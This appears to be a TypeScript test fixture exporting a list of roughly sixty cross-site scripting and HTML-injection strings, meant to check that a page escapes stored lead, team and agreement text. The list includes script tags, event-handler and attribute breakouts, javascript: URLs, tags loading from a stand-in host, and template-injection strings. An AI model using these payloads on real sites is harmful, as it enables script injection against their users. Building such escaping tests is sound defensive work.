/** Sixty texts that a lead, a team or an agreement may hold, each of which would do something on a careless page. */
export const HOSTILE: readonly string[] = [
  ...['<script>hit()</script>', '<SCRIPT SRC=//e.example/x.js></SCRIPT>', '</script><script>hit()</script>'],
  ...['<img src=x onerror=hit()>', '<img/src/onerror=hit()>', '"><img src=x onerror=hit()>'],
  ...["'><img src=x onerror=hit()>", '<svg onload=hit()>', '<svg><script>hit()</script></svg>'],
  ...['</svg><script>hit()</script>', '<svg><animate onbegin=hit() attributeName=x>', '<body onload=hit()>'],
  ...['<iframe src=//e.example>', '<iframe srcdoc="<script>hit()</script>">', '<object data=//e.example>'],
  ...[
    '<embed src=//e.example>',
    '<link rel=stylesheet href=//e.example>',
    '<style>@import "//e.example"</style>',
  ],
  ...['</style><script>hit()</script>', '<style>*{display:none}</style>', '<base href=//e.example>'],
  ...[
    '<meta http-equiv=refresh content="0;url=//e.example">',
    '<form action=//e.example><button>x</button></form>',
  ],
  ...['<input autofocus onfocus=hit()>', '<details open ontoggle=hit()>', '<video><source onerror=hit()>'],
  ...['<audio src=x onerror=hit()>', '<marquee onstart=hit()>', '<a href=javascript:hit()>x</a>'],
  ...[
    '<a href="data:text/html,<script>hit()</script>">x</a>',
    '" onmouseover="hit()',
    "' onmouseover='hit()",
  ],
  ...['" autofocus onfocus="hit()" x="', '" style="background:url(//e.example)" x="', '` onmouseover=`hit()'],
  ...[
    '</title><script>hit()</script>',
    '</summary></details><script>hit()</script>',
    '</td></tr></table><hr>',
  ],
  ...[
    '</h1><h1>',
    '</main></div></body></html><script>hit()</script>',
    '<!-- <script>hit()</script>',
    '--><script>hit()</script>',
  ],
  ...[
    '<![CDATA[<script>hit()</script>]]>',
    '<?xml version="1.0"?><script>hit()</script>',
    '&lt;script&gt;hit()&lt;/script&gt;',
  ],
  ...[
    '&#60;script&#62;hit()&#60;/script&#62;',
    '<math><mtext><script>hit()</script></mtext></math>',
    '<template><script>hit()</script></template>',
  ],
  ...[
    '<noscript><img src=x onerror=hit()></noscript>',
    '<textarea><script>hit()</script>',
    '<plaintext>',
    '<xmp><script>hit()</script>',
  ],
  ...[
    'javascript:hit()',
    'https://e.example/?x=<b>',
    '//e.example',
    '\u202e<b>evil</b>',
    '\u0000<script>hit()</script>',
  ],
  ...[
    '\u2028<script>hit()</script>',
    '{{constructor.constructor("hit()")()}}',
    '$' + '{hit()}',
    '=\'"><b>1</b>',
    'é🎉 株式会社 <b>',
  ],
];
